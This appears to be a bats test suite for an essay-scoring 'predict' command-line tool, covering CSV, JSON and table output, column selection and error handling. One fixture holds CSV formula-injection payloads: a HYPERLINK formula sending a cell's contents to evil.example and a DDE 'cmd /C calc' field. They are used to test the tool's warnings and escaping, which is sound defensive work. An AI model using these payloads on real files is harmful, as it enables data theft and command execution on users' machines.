#!/usr/bin/env bats
# predict: the model is tests/fixtures/model/trained, whose numbers PyTorch made.
load helper

csv() {
    cat <<'END'
content,score
"the essay, is good.",4
"bad ""essay""
is bad",2
,3
" very very good ",5
END
}

# N texts of very different length.
many() {
    python3 - "$1" <<'END'
import sys
print("id,content,score")
for i in range(int(sys.argv[1])):
    print(f"r{i},{' '.join(['the', 'essay', 'good', 'bad', 'very'][(i * 7 + j * j) % 5] for j in range(i * 13 % 29))},{i % 5 + 1}")
END
}

@test "pred, score and prob are those of the reference" {
    printf 'content,score\nthe essay is very good.,4\n' | tok -q -m "$fixtures/model/trained" | predict -q | show --json | python3 -c '
import json, math, sys
lines = [json.loads(line) for line in sys.stdin]
head, first = lines[0], lines[1]
assert head["kind"] == "predictions" and head["loss"] == "mse" and head["probabilities"] is True, head
assert head["labels"] == [1, 2, 3, 4, 5] and head["ordered"] is True and head["chosen_by"] == "train", head
assert [c["cmd"] for c in head["trail"]] == ["tok", "predict"] and len(head["model"]["print"]) == 32, head
assert head["rounding"] == "at 1.4, 2.5, 3.5, 4.25" and "tokenizer" not in head and "ids" not in first, (head, first)
wanted = [line.split() for line in open(sys.argv[1] + "/model/expected.txt")]
score = next(float(w[4]) for w in wanted if w[0] == "trained" and w[3].count(",") == 7)
assert first["pred"] == 5 and abs(first["score"] - score) < 1e-5, (first, score)
cuts = [1.5, 2.5, 3.5, 4.5] # of the scale, not of the thresholds
below = [0] + [0.5 * (1 + math.erf((c - first["score"]) / 0.5 / math.sqrt(2))) for c in cuts] + [1]
assert all(abs(p - (b - a)) < 1e-9 for p, a, b in zip(first["prob"], below, below[1:])), first
' "$fixtures"
}

@test "CSV has every row in order, quoted, with its kept columns" {
    csv | tok -q -m "$fixtures/model/trained" --keep content | predict -q --csv >scores.csv
    csv >essays.csv
    python3 - <<'END'
import csv
before = list(csv.DictReader(open("essays.csv", newline="")))
after = list(csv.DictReader(open("scores.csv", newline="")))
assert list(after[0]) == ["id", "content", "y", "pred", "score"] + [f"prob_{k}" for k in range(1, 6)] + ["reason"], after[0]
assert [r["content"] for r in after] == [r["content"] for r in before]
assert [r["y"] for r in after] == [r["score"] for r in before]
assert all(r["pred"] in "12345" and float(r["score"]) > 0 and r["reason"] == "" for r in after)
END
}

# Rows whose fields a spreadsheet would take for formulas, and some that only look like it.
formulas() {
    printf 'id,content,score,note\n'
    printf '"=HYPERLINK(""http://evil.example/?x=""&B2,""Anna"")","an essay",1,"=cmd|'"' /C calc'"'!A0"\n'
    printf '@SUM(1+1),+1 for tablets,2,-5\n'
    printf 'c,"a;=1+1, ""q""\nGröße",3,"\t=1"\n'
}

@test "--csv keeps what begins like a formula, and warns; --spreadsheet puts an apostrophe before it" {
    formulas | tok -q -m "$fixtures/model/trained" --keep content,note >t
    expect_status 0 predict -q --csv t
    expect_text "predict: warning: 5 fields begin like a formula: do not open this file in a spreadsheet (--spreadsheet writes one for it)" "$stderr"
    printf '%s\n' "$output" >plain.csv
    expect_status 0 predict --spreadsheet -o sheet.csv t
    expect_text "predict: 5 fields would have been a formula: an apostrophe stands before each" "$(grep apostrophe <<<"$stderr")"
    predict -q --spreadsheet --decimal , t >german.csv
    predict -q --spreadsheet --decimal . --delimiter tab t >tabs.csv
    formulas >before.csv
    python3 - <<'END'
import csv
read = lambda name, delimiter=",", encoding="utf-8-sig": list(csv.reader(open(name, newline="", encoding=encoding), delimiter=delimiter))
before = list(csv.DictReader(open("before.csv", newline="")))
plain = read("plain.csv", encoding="utf-8")
assert plain[0][:5] == ["id", "content", "note", "y", "pred"], plain[0]
assert [r[:4] for r in plain[1:]] == [[b["id"], b["content"], b["note"], b["score"]] for b in before]
marked = lambda t: "'" + t if t[:1] in "=@\t" or t == "+1 for tablets" else t
number = lambda t, sign=".": f"{float(t):.3f}".replace(".", sign)
for name, delimiter, sign in (("sheet.csv", ",", "."), ("german.csv", ";", ","), ("tabs.csv", "\t", ".")):
    assert open(name, "rb").read(3) == b"\xef\xbb\xbf"
    rows = read(name, delimiter)
    assert rows[0] == plain[0]
    for was, row in zip(plain[1:], rows[1:], strict=True):
        assert row == [marked(t) for t in was[:3]] + was[3:5] + [number(t, sign) for t in was[5:-1]] + was[-1:], row
    # texts stand in quotes, so that it does not matter where else a program splits
    assert all(line.startswith('"') for line in open(name, encoding="utf-8-sig") if not line.startswith("Gr"))
END
}

@test "--spreadsheet, --delimiter, --decimal: what goes together" {
    csv | tok -q -m "$fixtures/model/trained" >t
    for wrong in "--csv --spreadsheet" "--csv --delimiter ;" "--decimal ," "--spreadsheet --decimal x" "--spreadsheet --delimiter ab" \
        "--columns id"; do
        expect_status 2 predict -q $wrong t
        [ -z "$output" ]
    done
    expect_text 'id;pred' "$(predict -q --spreadsheet --delimiter ';' --columns id,pred t | head -1 | tr -d '"' | tail -c +4)"
}

@test "CSV: a kept column that is called as another is titled meta.NAME, but for a title asked for" {
    csv >essays.csv
    tok -q -m "$fixtures/model/trained" --keep content,score essays.csv >t
    predict -q --csv t >scores.csv
    predict -q --csv --columns score=meta.score,meta.score,score t >asked.csv
    python3 - <<'END'
import csv
before = list(csv.DictReader(open("essays.csv", newline="")))
after = list(csv.DictReader(open("scores.csv", newline="")))
assert list(after[0]) == ["id", "content", "meta.score", "y", "pred", "score"] + [f"prob_{k}" for k in range(1, 6)] + ["reason"], after[0]
assert [r["meta.score"] for r in after] == [r["score"] for r in before]
asked = list(csv.reader(open("asked.csv", newline="")))
assert asked[0] == ["score", "meta.score", "score"], asked[0]
assert asked[1:] == [[b["score"], b["score"], a["score"]] for a, b in zip(after, before)], asked
END
}

@test "CSV: labels and kept columns that the first record lacks have their columns" {
    m=$fixtures/model/trained
    # no label first, then a row too short to read
    printf 'id,text,label,content\n1,the essay,,aa\n2,very good,2,bb\n' |
        tok -q -m "$m" --id id --keep content | predict -q --csv | cut -d, -f1-3 >unlabelled
    expect_text $'id,content,y\n1,aa,\n2,bb,2' "$(cat unlabelled)"
    printf 'id,text,label,content\n1,the essay\n2,very good,2,bb\n3,bad,3,cc\n' |
        tok -q -m "$m" --id id --keep content --bad-rows mark >marked
    predict -q --csv marked >out
    expect_text $'id,content,y\n-:1,,\n2,bb,2\n3,cc,3' "$(cut -d, -f1-3 out)"
    [[ $(sed -n 2p out) == -:1,*" fields"* ]]
    expect_text $'content,y\n,\nbb,2\ncc,3' "$(predict -q --csv --columns content,y marked)"
    expect_status 2 predict -q --csv --columns title marked
    [[ $stderr == *"no 'title'"*"id, content, y, pred"* ]]
    # JSON Lines: a key that comes later
    printf '%s\n' '{"id":"1","text":"the essay","a":"p"}' '{"id":"2","text":"good","b":"q","a":"r"}' |
        tok -q -m "$m" --format jsonl --id id --keep a,b | predict -q --csv | cut -d, -f1-4 >keys
    expect_text $'id,a,b,pred\n1,p,\n2,r,q' "$(sed 's/,[1-5]$//' keys)"
}

@test "CSV: segments with other kept columns, or none, and no labels at all" {
    m=$fixtures/model/trained
    printf 'id,text\n0,x\n' | tok -q -m "$m" --id id | show --where part=none --stream >none
    printf 'id,text,a\n1,the essay,p\n' | tok -q -m "$m" --id id --keep a >one
    printf 'id,text,b\n2,good,q\n' | tok -q -m "$m" --id id --keep b >two
    predict -q --csv none one two | cut -d, -f1-4 | sed 's/,[1-5]$//' >out
    expect_text $'id,a,b,pred\n1,p,\n2,,q' "$(cat out)"
    expect_text $'b\n""\nq' "$(predict -q --csv --columns b none one two)"
    expect_text 'id,pred,score,prob_1,prob_2,prob_3,prob_4,prob_5,reason' "$(predict -q --csv none)"
}

@test "CSV: what appears only after 1,000 records is counted, not lost in silence" {
    python3 - <<'END' >late.jsonl
import json
for i in range(1, 1003):
    late = {"label": 3, "a": "p"} if i > 1000 else {}
    print(json.dumps({"id": str(i), "text": "good", **late}))
END
    tok -q -m "$fixtures/model/trained" --format jsonl --id id --label label --keep a late.jsonl >late
    expect_status 0 predict -q --csv late
    expect_text "$(seq 1002)" "$(tail -n +2 <<<"$output" | cut -d, -f1)"
    [[ $output == id,pred,* ]]
    [[ $stderr == *"4 values have no column: the first 1000 records"* ]]
    expect_status 0 predict -q --csv --columns id late
    [ -z "$stderr" ]
    expect_status 2 predict -q --csv --columns a late
    sed 1,2d late.jsonl | tok -q -m "$fixtures/model/trained" --format jsonl --id id --label label --keep a >late
    expect_status 0 predict -q --csv late
    [[ $output == id,a,y,pred,* && -z $stderr ]]
}

@test "one line makes a two-column submission with content as it was" {
    csv | python3 -c 'import csv, sys; csv.writer(sys.stdout).writerows([r[0]] for r in csv.reader(sys.stdin))' >new.csv
    line "tok -q -m '$fixtures/model/trained' --keep content < new.csv | predict -q --csv --columns content,score=pred > submission.csv"
    python3 - <<'END'
import csv
new = list(csv.reader(open("new.csv", newline="")))
rows = list(csv.reader(open("submission.csv", newline="")))
assert rows[0] == ["content", "score"], rows[0]
assert [r[0] for r in rows[1:]] == [r[0] for r in new[1:]]
assert [r[1] for r in rows[1:]] == ["5", "3", "5", "5"], rows
END
}

@test "columns: probabilities, logits, a missing one is refused by name" {
    csv | tok -q -m "$fixtures/model/classifier" >t
    predict -q --logits --csv --columns 'prob_5,p=prob_1,logits' t | head -1 >titles
    expect_text "prob_5,p,logits" "$(cat titles)"
    expect_status 2 predict -q --csv --columns content t
    [[ $stderr == *"no 'content'"*"prob_5"*"--keep"* ]]
    expect_status 2 predict --columns id t
    [[ $stderr == *"--csv"* ]]
}

@test "Hugging Face's classifier: probabilities are softmax, pred the largest" {
    csv | tok -q -m "$fixtures/model/classifier" | predict -q --logits | show --json | python3 -c '
import json, math, sys
lines = [json.loads(line) for line in sys.stdin][1:-1]
for r in lines:
    e = [math.exp(x) for x in r["logits"]]
    p = [x / sum(e) for x in e]
    assert all(abs(a - b) < 1e-6 for a, b in zip(p, r["prob"])), r
    assert r["pred"] == 1 + p.index(max(p)), r
    assert abs(r["score"] - sum((k + 1) * x for k, x in enumerate(p))) < 1e-6, r
assert len(lines) == 4'
}

@test "a regressor of Hugging Face: its score, rounded to the stream's scale" {
    csv | tok -q -m "$fixtures/model/regression" --classes 1..5 | predict -q | show --json | python3 -c '
import json, sys
lines = [json.loads(line) for line in sys.stdin][1:-1]
for r in lines:
    assert r["pred"] == min(5, max(1, round(r["score"]))) and "prob" not in r, r
assert len(lines) == 4'
}

@test "a record's prediction depends neither on its neighbours nor on threads" {
    many 300 | tok -q -m "$fixtures/model/trained" >t
    predict -q --threads 1 --csv t >one
    for n in 2 5; do
        predict -q --threads $n --csv t >other
        cmp one other
    done
    show --at 123 --stream t | predict -q --csv | tail -1 >alone
    expect_text "$(sed -n 124p one)" "$(cat alone)"
}

@test "vectors: the same predictions by embed and predict as by predict alone" {
    many 50 | tok -q -m "$fixtures/model/trained" >t
    predict -q --csv t >direct
    embed -q -m "$fixtures/model/trained" --layer 1,2 --pool mean t | predict -q --csv >through
    cmp direct through
    embed -q -m "$fixtures/model/trained" --layer 2 --pool mean t >v
    expect_status 4 predict -m "$fixtures/model/trained" v
    [[ $stderr == *"layers [2]"*"[1,2]"* ]]
    embed -q -m "$fixtures/model/trained" --layer 1,2 --pool max t >v
    expect_status 4 predict -m "$fixtures/model/trained" v
    [[ $stderr == *"max"*"mean"* ]]
}

@test "streams of another vocabulary, casing or kind are refused" {
    csv | tok -q -m "$fixtures/model/trained" >t
    cp -r "$fixtures/model/trained" other
    sed -i 's/good/fine/' other/vocab.txt
    expect_status 4 predict -m other t
    [[ $stderr == *vocabulary*"tok -m other"* ]]
    cp "$fixtures/model/trained/vocab.txt" other
    sed -i 's/"do_lower_case": true/"do_lower_case": false/' other/tokenizer_config.json
    expect_status 4 predict -m other t
    [[ $stderr == *lower-casing* ]]
    sed -i 's/"do_lower_case": false/"do_lower_case": true/; s/"drop"/"keep"/' other/tokenizer_config.json
    expect_status 0 predict -m other -o p t
    [[ $stderr == *warning*placeholders* ]]
    predict -q t >p
    expect_status 4 predict -m "$fixtures/model/trained" p
    [[ $stderr == *predictions* ]]
}

@test "a directory without a trained head, without anything" {
    csv | tok -q -m "$fixtures/model/published-zip" >t
    expect_status 4 predict -m "$fixtures/model/published-zip" t
    [[ $stderr == *"no trained head"*"fit -m"* ]]
    mkdir empty
    expect_status 4 predict -m empty t
    [[ $stderr == *"config.json"* ]]
}

@test "the stream's model is used while it is what it was" {
    cp -r "$fixtures/model/trained" m
    csv | tok -q -m m >t
    predict t >/dev/null 2>said
    grep -q 'scored with m$' said
    sed -i 's/"deviation": 0.5/"deviation": 0.25/' m/config.json
    RUBRIC_MODEL=$fixtures/model/trained predict t >/dev/null 2>said
    grep -q 'm, which has changed' said
    grep -q 'scored with .*/trained$' said
}

@test "a cut stream: status 4, and nothing is sealed" {
    many 300 | tok -q -m "$fixtures/model/trained" >t
    head -c 9000 t >cut
    expect_status 4 predict -q -o p cut
    expect_unsealed p
}

@test "outputs that are not finite give no score but a reason" {
    cp -r "$fixtures/model/trained" m
    python3 - <<'END'
import json, struct
data = bytearray(open("m/model.safetensors", "rb").read())
size = struct.unpack("<Q", data[:8])[0]
at = json.loads(data[8:8 + size])["rubric.head.bias"]["data_offsets"][0]
data[8 + size + at:8 + size + at + 4] = struct.pack("<f", float("nan"))
open("m/model.safetensors", "wb").write(data)
END
    csv | tok -q -m m | predict --csv --columns id,pred,score,reason >out 2>said
    expect_text "-:4,,,the model's outputs are not finite" "$(tail -1 out)"
    grep -q 'warning: 4 without a score' said
}

@test "a full disk and a closed pipe" {
    many 300 | tok -q -m "$fixtures/model/trained" >t
    for how in "" --csv; do
        run --separate-stderr bash -c "predict -q $how t >/dev/full"
        [ "$status" -eq 1 ]
        [[ $stderr == *"No space left"* ]]
    done
    run --separate-stderr bash -c "predict -q --csv t | head -1"
    [ "$status" -eq 0 ]
    [ -z "$stderr" ]
}

@test "a terminal gets a table" {
    csv | tok -q -m "$fixtures/model/trained" >t
    script -qec "predict -q t" /dev/null </dev/null | tr -d '\r' >table
    [[ $(head -1 table) == "id "*pred*score*probability* ]]
    [[ $(sed -n 2p table) == "-:1 "*" 5 "*"4.923  0.801" ]]
    [ "$(wc -l <table)" -eq 5 ]
}

@test "the table's columns line up and show what a terminal would hide" {
    printf 'id,text\nGröße,good\ni\u202eb,good\n日本,good\n%s,good\n' "$(printf 'long%.0s' {1..10})" |
        tok -q -m "$fixtures/model/trained" >t
    script -qec "predict -q t" /dev/null </dev/null | tr -d '\r' >table
    [[ $(sed -n 2p table) == "Größe                        "[1-5]" "* ]]
    [[ $(sed -n 3p table) == 'i\u202eb                     '[1-5]" "* ]]
    [[ $(sed -n 4p table) == "日本                         "[1-5]" "* ]]
    [[ $(sed -n 5p table) == "longlonglonglonglonglonglon~ "[1-5]" "* ]]
}

@test "a row that tok could not read keeps its place, with the reason" {
    printf 'id,content,score\na,good,1\nb,bad,wrong\nc,the essay,2\n' >rows.csv
    tok -q -m "$fixtures/model/trained" --bad-rows mark --label-type integer <rows.csv |
        predict --csv --columns id,pred,reason >out 2>said
    [ "$(cut -d, -f1 out | tr '\n' ' ')" = "id a b c " ]
    [[ $(sed -n 3p out) == b,,*wrong* ]]
    [[ $(sed -n 4p out) == c,[1-5], ]]
    grep -q 'warning: 1 without a score' said
}

@test "what an earlier prediction left is gone" {
    model=$fixtures/model/trained
    printf 'id,text\na,one two\nb\n' | tok -q -m "$model" --bad-rows mark 2> /dev/null > marked.rs
    show --json marked.rs | jq -c 'if has("ids") then .bad = "old" elif has("id") then .pred = 9 | .score = 9 | .prob = [1] else . end' |
        show --pack > stale.rs
    predict -q -m "$model" stale.rs 2> /dev/null | show --json | jq -c 'select(has("id")) | [.id, has("pred"), has("score"), has("prob"), has("bad")]' > got
    expect_text '["a",true,true,true,false]
["marked.rs:2",false,false,false,true]' "$(sed 's/"-:2"/"marked.rs:2"/' got)"
}
